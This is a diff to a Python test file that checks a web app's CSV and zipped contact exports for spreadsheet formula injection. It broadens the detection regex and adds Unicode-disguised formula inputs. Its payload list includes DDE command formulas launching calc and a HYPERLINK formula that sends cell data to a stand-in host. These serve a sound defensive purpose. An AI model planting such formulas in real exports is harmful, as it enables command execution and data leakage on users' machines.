@@ -9,6 +9,8 @@ import csv
 import io
 import json
 import re
+import zipfile
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -16,6 +18,8 @@ import pytest
 from flask import Flask
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from sqlalchemy import select
+from werkzeug.test import TestResponse
 
 import tracker
 from tests.admin.conftest import Person
@@ -24,6 +28,7 @@ from tests.security.hostile_shop import as_file, fill
 from tests.security.xss_vectors import Texts
 from tracker.admin.csv_files import harmless
 from tracker.clock import now
+from tracker.contacts.models import Contact
 from tracker.db import db, read_only
 from tracker.decide.rules import check_rule
 from tracker.decide.transfer import TransferError, plan_import
@@ -32,8 +37,9 @@ from tracker.popups.coupons import add_codes, create_pool
 from tracker.shops.models import Shop
 from tracker.shops.shops import shop_by_key
 
-BEGINS = r"=+\-@" "\uff1d\uff0b\uff0d\uff20"
-CALCULATED = re.compile(rf"[\s\x00-\x20\u00a0\u200b-\u200f\u2028\u2029\u2060\ufeff]*[{BEGINS}]|[\t\r\n]")
+BEGINS = r"=+\-@" "\uff1d\uff0b\uff0d\uff20" "\ufe66\ufe62\ufe63\ufe6b" "\u2212\u207a"
+UNSEEN = r"\s\x00-\x20\u00a0\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufe00-\ufe0f\ufeff"
+CALCULATED = re.compile(rf"[{UNSEEN}]*[{BEGINS}]|[\t\r\n]")
 
 FORMULAS = (
     "=1+1",
@@ -53,6 +59,13 @@ FORMULAS = (
     "\uff0b1",
     "\uff0d1",
     "\uff20SUM(1)",
+    "\u00ad=1+1",
+    "\u202e=1+1",
+    "\u2066=1+1",
+    "\ufe0f=1+1",
+    "\ufe661+1",
+    "\ufe621",
+    "\u22121+1",
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("//zxss.example?"&A1,"x")',
     "-2+3+cmd|' /C calc'!D2",
@@ -122,18 +135,52 @@ def test_no_cell_of_any_export_is_a_formula(app: Flask, hostile: str, operator: 
         read_only.set(False)
         answer = operator.post(path, {"reason": "=1+1, and so on"})
         assert answer.status_code == 200, (endpoint, answer.text[:300])
-        if answer.mimetype != "text/csv":
-            continue
-        assert answer.headers["X-Content-Type-Options"] == "nosniff"
-        assert answer.headers["Content-Disposition"].startswith("attachment")
-        text = answer.text.removeprefix("\ufeff")
-        for row in csv.reader(io.StringIO(text, newline="")):
-            for cell in row:
-                cells += 1
-                assert not CALCULATED.match(cell), (endpoint, cell)
-        # Everything is quoted: a separator in a cell begins none.
-        assert re.fullmatch(r'(?:"(?:[^"]|"")*"(?:,|\r\n))*', text), endpoint
+        if answer.mimetype == "text/csv":
+            assert answer.headers["X-Content-Type-Options"] == "nosniff"
+            assert answer.headers["Content-Disposition"].startswith("attachment")
+            cells += look_at_cells(answer.text, endpoint)
     assert cells > 300
+
+
+def test_no_cell_of_any_file_in_a_contacts_download_is_a_formula(app: Flask, hostile: str, operator: Person) -> None:
+    """All that is kept of one person, a file a table: what they sent stands in more than a dozen of them."""
+    make_popup(app, hostile, survey_document(), "Asks why")
+    values = fill(app, hostile, Formulas(), visitors=4, batches=len(FORMULAS))
+    with app.app_context():
+        contacts = db.session.scalars(select(Contact.public_id).where(Contact.shop_id == shop_by_key(hostile).id)).all()
+    cells, tables = 0, set()
+    for contact in contacts:
+        read_only.set(False)
+        path = f"/admin/shops/{hostile}/contacts/{contact}/download"
+        answer = operator.post(path, {"format": "csv", "reason": "=1+1, and so on"})
+        assert (answer.status_code, answer.mimetype) == (200, "application/zip"), answer.text[:300]
+        for name, text in files_in(answer):
+            tables.add(name)
+            cells += look_at_cells(text, f"{path}: {name}")
+    assert values["contact"] in contacts
+    assert {"capture.csv", "stored_event.csv", "order.csv", "session.csv", "consent.csv", "popup_answer.csv"} <= tables
+    assert cells > 1000
+
+
+def files_in(answer: TestResponse) -> Iterator[tuple[str, str]]:
+    """Name and text of each file of a zip; nothing of it would be unpacked anywhere but beside it."""
+    assert answer.headers["X-Content-Type-Options"] == "nosniff"
+    assert answer.headers["Content-Disposition"].startswith("attachment")
+    with zipfile.ZipFile(io.BytesIO(answer.data)) as archive:
+        for name in archive.namelist():
+            assert re.fullmatch(r"[a-z_]+\.csv", name)
+            yield name, archive.read(name).decode()
+
+
+def look_at_cells(text: str, where: str) -> int:
+    """How many cells a file has; none may be calculated, and a separator in a cell may begin none."""
+    text, cells = text.removeprefix("\ufeff"), 0
+    for row in csv.reader(io.StringIO(text, newline="")):
+        for cell in row:
+            cells += 1
+            assert not CALCULATED.match(cell), (where, cell)
+    assert re.fullmatch(r'(?:"(?:[^"]|"")*"(?:,|\r\n))*', text), where
+    return cells
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
